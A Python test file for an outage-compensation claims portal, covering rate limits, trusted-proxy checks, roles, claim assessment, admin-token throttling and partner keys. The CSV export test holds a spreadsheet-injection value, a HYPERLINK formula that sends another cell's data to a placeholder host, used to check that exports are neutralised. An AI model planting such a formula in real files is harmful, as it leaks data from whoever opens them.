"""Pure parts of the portal and console: abuse limits, the translation table, form parsing,
roles, verification reasons and the agents' ledger entries."""

import json
from datetime import datetime, timezone

import pytest

from firebreak.claims.edge import anonymous_review_action
from firebreak.claims.i18n import EVIDENCE, LANGS, SERVICES, T, pick_lang
from firebreak.claims.ledger import Outage
from firebreak.claims.limits import client_source
from firebreak.throttle import Buckets
from firebreak.claims.models import REPORTER_KINDS
from firebreak.claims.policy import load_policy
from firebreak.claims.portal import KST, parse_local
from firebreak.claims.reviewers import check_new_user, may, verify_password, hash_password
from firebreak.claims.sources import outages_from_etcd
from firebreak.claims.verify import assess
from tests.conftest import ROOT

KAKAO = load_policy(ROOT / "examples/kakao-2022-policy.yaml")
OCT15 = datetime(2022, 10, 15, 15, 19, tzinfo=KST).timestamp()


def test_buckets_allow_a_burst_then_the_rate():
    b = Buckets(rate=1.0, burst=3)
    assert [b.allow("a", 0.0) for _ in range(4)] == [True, True, True, False]
    assert b.allow("b", 0.0)            # another source has its own bucket
    assert not b.allow("a", 0.5)        # half a token is not enough
    assert b.allow("a", 1.6)            # one token back after a second
    assert Buckets(rate=0, burst=0).allow("x", 0.0)  # rate 0: no limit


def test_buckets_forget_idle_sources_instead_of_growing_forever():
    b = Buckets(rate=1.0, burst=2, max_sources=10)
    for i in range(10):
        b.allow(f"s{i}", 0.0)
    b.allow("new", 100.0)
    assert len(b._state) == 1


@pytest.mark.parametrize("peer,xff,expected", [
    ("10.77.0.11", "203.0.113.9", "203.0.113.9"),              # through our door: the address the door saw
    ("10.77.0.11", "1.2.3.4, 203.0.113.9", "203.0.113.9"),     # only the entry our door appended counts
    ("198.51.100.7", "203.0.113.9", "198.51.100.7"),           # not our door: a forged header is ignored
    ("10.77.0.11", "garbage", "10.77.0.11"),
    (None, None, "unknown"),
])
def test_client_source_believes_only_our_doors(peer, xff, expected):
    assert client_source(peer, xff, frozenset({"10.77.0.11"})) == expected


def test_every_word_exists_in_every_language():
    for key, words in T.items():
        assert set(words) == set(LANGS) and all(words.values()), key
    for kind in REPORTER_KINDS:
        assert f"kind.{kind}" in T
    assert all(f"svc.{s}" in T for s in SERVICES) and all(f"ev.{e}" in T for e in EVIDENCE)
    assert pick_lang(None, None) == "ko" and pick_lang("en", "ko") == "en" and pick_lang("fr", "en") == "en"


def test_form_times_are_korea_time():
    dt = parse_local("2022-10-15T15:19")
    assert dt.utcoffset().total_seconds() == 9 * 3600
    assert dt.astimezone(timezone.utc).hour == 6
    assert parse_local("not a time") == "not a time"  # left for the model to refuse with a field error


def test_roles_are_ordered_and_passwords_are_argon2():
    assert may("approver", "approve") and not may("reviewer", "approve") and may("admin", "export")
    assert may("reviewer", "reject") and not may("approver", "users")
    digest = hash_password("correct horse battery")
    assert digest.startswith("$argon2") and verify_password(digest, "correct horse battery")
    assert not verify_password(digest, "wrong") and not verify_password(None, "anything")
    assert check_new_user("anna", "approver", "x" * 12) == []
    assert len(check_new_user("Anna Smith", "root", "short")) == 3


@pytest.mark.parametrize("kind,claimed,start_h,end_h,dup,expected_amount,expected_flags", [
    ("channel_shop", 250_000, 0, 6, False, 30_000, ()),                       # tier 1
    ("channel_shop", 450_000, 0, 6, False, 50_000, ()),                       # tier 2
    ("channel_shop", 250_000, 0, 6, True, 30_000, ("duplicate",)),
    ("channel_shop", 250_000, 400, 406, False, 0, ("outside-outage",)),       # weeks later: nothing verified
    ("paid_user", 500_000, 0, 6, False, 1_000, ("over-value",)),              # fee 0 on file: the minimum, far below
])
def test_assessment_of_a_report(kind, claimed, start_h, end_h, dup, expected_amount, expected_flags):
    outages = [Outage("messenger", OCT15, OCT15 + 10 * 3600)]
    a = assess(KAKAO, outages, reporter_kind=kind, service="messenger", start=OCT15 + start_h * 3600,
               end=OCT15 + end_h * 3600, claimed_amount=claimed, duplicate=dup, monthly_fee=0)
    assert a.amount == expected_amount and a.flags == expected_flags
    assert a.clean == (not expected_flags)
    assert any("rule" in r for r in a.reasons)


def test_agents_ledger_entries_are_outages_of_every_service():
    got = outages_from_etcd([{"site": "pangyo", "start": 100.0, "end": 160.0},
                             {"site": "ansan", "start": 200.0, "end": None},   # still open: until now
                             {"site": "broken"}], now=300.0)
    assert got == [Outage("*", 100.0, 160.0, "pangyo", "agent"), Outage("*", 200.0, 300.0, "ansan", "agent")]


def test_exported_cells_never_become_spreadsheet_formulas():
    import csv
    import io

    from firebreak.claims.review import export_csv

    row = {"receipt": "R-1", "reporter_kind": "individual", "service": "messenger",
           "contact": '=HYPERLINK("http://x/?"&D2,"y")&"@a.b"', "amount": 30000, "goodwill": "", "rule": "r1",
           "decided_by": "@anna", "decided_at": None}
    phone = dict(row, contact="+82 10-1234-5678")
    out = list(csv.reader(io.StringIO(export_csv([row, phone], "KRW"))))
    assert out[1][3].startswith("'=HYPERLINK") and out[1][8] == "'@anna"
    assert out[2][3] == "'+82 10-1234-5678" and out[2][4] == "30000"  # amounts stay numbers


def test_contact_keys_are_64_bit_and_normalised():
    from firebreak.claims.io import contact_key

    assert contact_key(" Anna@Example.com ") == contact_key("anna@example.com")
    keys = {contact_key(f"user{i}@example.com") for i in range(200_000)}
    assert len(keys) == 200_000  # no false pair in 200k (a 32-bit CRC expects about 5 here)
    assert all(-(2**63) <= k < 2**63 for k in list(keys)[:100])


def test_anonymous_refusals_are_summarised_at_most_once_a_period():
    from firebreak.claims.review import AnonymousTally

    t = AnonymousTally(every=60)
    first = t.note("login", "10.0.0.1", now=0.0)
    assert first == {"count": 1, "actions": {"login": 1}, "sources": 1, "seconds": 0.0}
    assert all(t.note("bulk-approve", f"10.0.0.{i % 7}", now=1.0 + i) is None for i in range(50))
    later = t.note("export", "10.0.0.9", now=61.0)
    assert later == {"count": 51, "actions": {"bulk-approve": 50, "export": 1}, "sources": 8, "seconds": 60.0}
    assert t.note("export", "x", now=62.0) is None  # a new period starts


@pytest.mark.parametrize("idle_for,expected", [(0.0, 50), (0.5, 50), (1.0, 500), (600.0, 500), (float("inf"), 500)])
def test_the_verifier_takes_a_small_share_while_reports_arrive(idle_for, expected):
    from firebreak.claims.review import VERIFY_BATCH, VERIFY_BUSY_BATCH, verify_batch
    assert (VERIFY_BATCH, VERIFY_BUSY_BATCH) == (500, 50)
    assert verify_batch(1000.0, 1000.0 - idle_for) == expected


@pytest.mark.parametrize("method, path, cookie, expected", [
    ("POST", "/review/bulk-approve", None, "bulk-approve"),
    ("POST", "/review/reports/42/decide", b"lang=ko", "decide"),
    ("POST", "/review/bulk-approve", b"lang=ko; firebreak_review=abc", None),  # a session: the route decides
    ("GET", "/review/bulk-approve", None, None),
    ("POST", "/review/login", None, None),    # signing in needs no session
    ("POST", "/review/logout", None, None),
    ("POST", "/review/reports/x/decide", None, None),
    ("POST", "/review/bulk-approve/extra", None, None),
    ("POST", "/api/reports", None, None),
])
def test_the_edge_refuses_reviewer_actions_without_a_session(method, path, cookie, expected):
    assert anonymous_review_action(method, path, cookie) == expected


GOOD_REPORT = {"reporter_kind": "free_user", "service": "messenger", "claimed_amount": 0, "contact": "010-1234-5678",
               "window_start": "2022-10-15T15:30:00+09:00", "window_end": "2022-10-15T22:00:00+09:00"}


@pytest.mark.parametrize("change, field, words", [
    # year 1 at +01:00 is year 0 in UTC: the stored row came back unreadable, heard as "outcome unknown" (503)
    ({"window_start": "0001-01-01T00:02:08+01:00"}, "window_start", "out of range once converted to UTC"),
    ({"window_end": "9999-12-31T23:00:00-05:00"}, "window_end", "out of range once converted to UTC"),
    ({"window_start": "2022-10-15T15:30:00"}, "body", "need a time zone"),
    ({"window_end": "2022-10-15T15:00:00+09:00"}, "body", "after window_start"),
])
def test_a_damage_window_is_refused_by_field_when_it_cannot_be_true(change, field, words):
    from pydantic import ValidationError

    from firebreak.claims.app import invalid
    from firebreak.claims.models import ReportIn

    ReportIn.model_validate(GOOD_REPORT)
    with pytest.raises(ValidationError) as e:
        ReportIn.model_validate({**GOOD_REPORT, **change})
    errors = json.loads(invalid(e.value).body)["errors"]
    assert any(x["field"] == field and words in x["reason"] for x in errors), errors


@pytest.mark.parametrize("per_minute, burst", [(20, 10), (600, 20), (1, 1)])
def test_a_fresh_source_gets_a_small_burst_then_the_per_minute_rate(per_minute, burst):
    from firebreak.claims.limits import portal_buckets

    b = portal_buckets(per_minute)
    allowed = sum(b.allow("10.0.0.1", 0.0) for _ in range(1000))
    assert allowed == burst  # the lab's 600 a minute no longer means 300 receipt guesses at once
    assert b.allow("10.0.0.1", 60.0 / per_minute)  # one more after a rate's worth of time


class StillClock:
    """A clock that moves only when told; its sleep returns at once (counted)."""

    def __init__(self, now: float = 0.0):
        self.now, self.slept = now, []

    def monotonic(self) -> float:
        return self.now

    def time(self) -> float:
        return self.now

    async def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)


@pytest.mark.parametrize("header, ok", [
    ("Bearer s3cret", True), ("s3cret", True), ("Bearer  s3cret ", True),
    ("Bearer wrong", False), (None, False), ("", False),
    ("Bearer 토큰", False), ("Bearer \udcff", False), ("Bearer s3cret\x00", False),
])
def test_the_admin_token_is_compared_whatever_the_header_holds(header, ok):
    from firebreak.claims.guards import token_matches

    assert token_matches(header, "s3cret") is ok
    assert token_matches(header, "") is False  # no token configured: nobody is admin


def test_failed_admin_attempts_are_throttled_per_source_and_counted():
    from firebreak.claims.edge import AppMetrics
    from firebreak.claims.guards import AdminGuard

    clock, metrics = StillClock(100.0), AppMetrics("pangyo")
    guard = AdminGuard("s3cret", "pangyo", metrics, clock, per_minute=3)
    verdicts = [guard.check("Bearer guess", "203.0.113.9", "/admin/release").why for _ in range(5)]
    assert verdicts == ["wrong-token"] * 3 + ["throttled"] * 2
    # The right token from the same source is never throttled: the service's own tools may sit
    # behind the address a stranger guesses from (the lab's one host address: drill readers were
    # locked out by other requests' wrong tokens).
    assert guard.check("Bearer s3cret", "203.0.113.9", "/admin/release").ok
    assert guard.check("Bearer guess", "203.0.113.9", "/admin/release").why == "throttled"
    assert guard.check("Bearer s3cret", "10.77.0.11", "/admin/release").ok  # another source: the agent
    clock.now += 20  # one failed attempt's worth of allowance back
    assert guard.check("Bearer guess", "203.0.113.9", "/admin/release").why == "wrong-token"
    count = metrics.refusals.labels("pangyo", "/admin/release", "admin-throttled")._value.get()
    assert count == 3 and metrics.refusals.labels("pangyo", "/admin/release", "admin-token")._value.get() == 4


def test_partner_keys_are_kept_as_digests_and_bad_lines_are_named():
    from firebreak.claims.partners import PartnerKeys, key_line, new_key
    from firebreak.errors import InputError

    k1, k2 = new_key(), new_key()
    keys = PartnerKeys.parse(f"# partners\n{key_line('taxi-union', k1)}\n\n{key_line('shop.net', k2)}  # since 2022\n",
                             "partners.txt")
    assert keys.partner(k1) == "taxi-union" and keys.partner(k2) == "shop.net"
    assert keys.partner("fbp_guess") is None and keys.partner("") is None and keys.partner("열쇠") is None
    assert k1 not in key_line("taxi-union", k1)
    with pytest.raises(InputError) as e:
        PartnerKeys.parse(f"{key_line('taxi-union', k1)}\nbroken line\n{key_line('Taxi_Union', k2)}\n"
                          f"{key_line('taxi-union', new_key())}\n", "partners.txt")
    text = str(e.value)
    assert "partners.txt: line 2: expected" in text and "line 3: partner name 'Taxi_Union'" in text
    assert "line 4: partner 'taxi-union' or its key appears twice" in text


def test_a_partner_keys_file_others_can_read_is_refused(tmp_path):
    from firebreak.claims.partners import PartnerKeys, key_line, new_key
    from firebreak.errors import InputError

    f = tmp_path / "partners"
    f.write_text(key_line("taxi-union", new_key()) + "\n")
    f.chmod(0o640)
    with pytest.raises(InputError, match="readable by others .mode 0640.; run: chmod 600"):
        PartnerKeys.load(f)
    f.chmod(0o600)
    assert len(PartnerKeys.load(f).by_digest) == 1
    with pytest.raises(InputError, match="cannot read the partner keys file"):
        PartnerKeys.load(tmp_path / "missing")


@pytest.mark.parametrize("path, key, expected", [
    ("/report", None, ("portal", None)),
    ("/status", None, ("portal", None)),
    ("/api/reports/status", "K", ("portal", None)),    # a lookup is a person's, key or not
    ("/api/reports", None, ("intake", None)),
    ("/api/reports", "K", ("partner", "taxi-union")),
    ("/api/reports", "other", ("bad-key", None)),
    ("/api/reports", "", ("bad-key", None)),
    ("/review/login", None, ("none", None)),
])
def test_which_allowance_a_post_spends(path, key, expected):
    from firebreak.claims.edge import limit_for
    from firebreak.claims.partners import PartnerKeys, key_digest

    assert limit_for(path, key, PartnerKeys({key_digest("K"): "taxi-union"})) == expected


@pytest.mark.parametrize("path, hidden", [
    ("/admin/release", True), ("/admin/primary-moved", True), ("/admin", True), ("/metrics", True),
    ("/docs", True), ("/docs/oauth2-redirect", True), ("/redoc", True), ("/openapi.json", True),
    ("/", False), ("/report", False), ("/api/reports", False), ("/healthz", False), ("/review", False),
    ("/administrator", False), ("/metrics/x", False),
])
def test_what_the_public_listener_refuses(path, hidden):
    from firebreak.claims.edge import admin_only

    assert admin_only(path) is hidden


def test_refusals_are_held_up_to_the_limit_then_sent_at_once():
    import asyncio

    from firebreak.claims.edge import RefusalHolder

    async def scenario() -> tuple[list[bool], RefusalHolder]:
        gate = asyncio.Event()

        class Gated(StillClock):
            async def sleep(self, seconds: float) -> None:
                await gate.wait()

        holder = RefusalHolder(delay=1.0, limit=2, clock=Gated())
        tasks = [asyncio.create_task(holder.hold()) for _ in range(5)]
        await asyncio.sleep(0)
        assert holder.held == 2 and sum(t.done() for t in tasks) == 3
        gate.set()
        return await asyncio.gather(*tasks), holder

    held, holder = asyncio.run(scenario())
    assert held == [True, True, False, False, False] and holder.held == 0
    assert (holder.total_held, holder.total_at_once) == (2, 3)
    assert asyncio.run(RefusalHolder(0, 10, StillClock()).hold()) is False  # no delay: nothing held


@pytest.mark.parametrize("count, total, over, confirmed, approve", [
    (3, 90_000, 1_000_000, None, True),            # under the bar: one click
    (3, 90_000, None, None, True),                 # a policy without a bar
    (0, 0, 0, None, True),                         # nothing to approve: nothing happens
    (40, 1_200_000, 1_000_000, None, False),       # over: shown, asked again
    (40, 1_200_000, 1_000_000, 1_200_000, True),   # confirmed, that very total
    (41, 1_230_000, 1_000_000, 1_200_000, False),  # the set grew since: asked again, with the new total
    (40, 1_000_000, 1_000_000, None, True),        # "above", not "at"
])
def test_approve_all_clean_asks_again_above_the_policys_bar(count, total, over, confirmed, approve):
    from firebreak.claims.review import bulk_approval

    ask = bulk_approval(count, total, over, confirmed)
    assert ask.approve is approve
    assert bool(ask.reason) is not approve
    if confirmed is not None and not approve:
        assert f"{total:,}" in ask.reason and f"{confirmed:,}" in ask.reason


def test_the_public_record_is_what_the_ledger_believes():
    from firebreak.claims.ledger import read_entries
    from firebreak.claims.status_page import Event, status_view

    t0 = 1_700_000_000.0
    now = t0 + 2 * 86400
    site = ("/firebreak/ledger/1700000000.000-pangyo",
            {"site": "pangyo", "start": t0, "end": t0 + 3600, "kind": "site-down", "source": "agent",
             "detail": "2 of 3 sites see it unreachable", "failover": "released firebreak's leader key"})
    entries = [site,
               ("/firebreak/ledger/drill-1700050000.000-ansan", {"site": "ansan", "start": t0 + 50_000, "end": None,
                                                                 "source": "drill"}),
               ("/firebreak/ledger/1700100000.000-svc-taxi", {"service": "taxi", "start": now - 30 * 3600,
                                                              "end": None, "source": "agent"}),   # open 30 h: not believed
               ("/firebreak/ledger/1700160000.000-svc-maps", {"service": "maps", "start": now - 600, "end": None,
                                                              "source": "agent"})]
    read = read_entries(entries, now, 24)
    view = status_view(read, dict(entries), ["messenger", "taxi", "maps"], now, {int(t0): (3, 9000)})
    assert [(s.service, s.down) for s in view.services] == [("messenger", False), ("taxi", False), ("maps", True)]
    assert view.services[2].since == now - 600 and not view.all_up
    assert [i.id for i in view.incidents] == [int(now - 600), int(t0)]  # newest first; no drill, no stale entry
    site_loss = view.incidents[1]
    assert site_loss.services == ("*",) and site_loss.end == t0 + 3600 and site_loss.sites == ("pangyo",)
    assert site_loss.causes == ("site pangyo lost: 2 of 3 sites see it unreachable",)
    assert site_loss.timeline == (
        Event(t0, "site-down", "pangyo", "2 of 3 sites see it unreachable; released firebreak's leader key"),
        Event(t0 + 3600, "back", "pangyo"), Event(t0 + 3600, "resolved", ""))
    assert (site_loss.credited_accounts, site_loss.credited_total) == (3, 9000)
    assert view.incidents[0].end is None and view.incidents[0].credited_accounts is None
    bars = view.history["messenger"]
    assert len(bars) == 90 and bars[-1].level == "ok"
    assert [b.level for b in bars if b.out_seconds] == ["major"] and sum(b.out_seconds for b in bars) == 3600
    assert view.history["maps"][-1].level == "minor" and view.history["maps"][-1].minutes == 10


def test_settings_name_every_missing_or_malformed_variable():
    from firebreak.claims.settings import Settings
    from firebreak.errors import InputError

    base = {"FIREBREAK_SITE_NAME": "pangyo", "FIREBREAK_DSN": "postgresql://a", "FIREBREAK_LOCAL_DSN": "postgresql://b"}
    s = Settings.from_env({**base, "FIREBREAK_API_RATE": "5000", "FIREBREAK_TRUSTED_PROXIES": "10.0.0.1, 10.0.0.2",
                           "FIREBREAK_ADMIN_BIND": "127.0.0.1:18081"})
    assert s.api_rate == 5000.0 and s.trusted_proxies == {"10.0.0.1", "10.0.0.2"} and s.any_dsn == "postgresql://b"
    assert Settings.from_env(base).api_rate is None and Settings.from_env(base).portal_rate == 20.0
    with pytest.raises(InputError) as e:
        Settings.from_env({"FIREBREAK_DSN": "x", "FIREBREAK_POOL_SIZE": "many", "FIREBREAK_REFUSAL_DELAY": "-1"})
    text = str(e.value)
    assert "FIREBREAK_SITE_NAME: is not set" in text and "FIREBREAK_LOCAL_DSN: is not set" in text
    assert "FIREBREAK_POOL_SIZE: 'many' is not a whole number" in text and "FIREBREAK_REFUSAL_DELAY: '-1'" in text


def test_a_partner_key_is_made_once_and_kept_only_as_its_digest(tmp_path, capsys):
    from firebreak.claims.partners import PartnerKeys, main

    f = tmp_path / "partners"
    assert main(["add", "taxi-union", str(f)]) == 0
    key = capsys.readouterr().out.strip()
    assert key.startswith("fbp_") and key not in f.read_text() and (f.stat().st_mode & 0o777) == 0o600
    assert PartnerKeys.load(f).partner(key) == "taxi-union"
    assert main(["add", "taxi-union", str(f)]) == 2 and "already has a key" in capsys.readouterr().err
    assert main(["add", "Bad Name", str(f)]) == 2
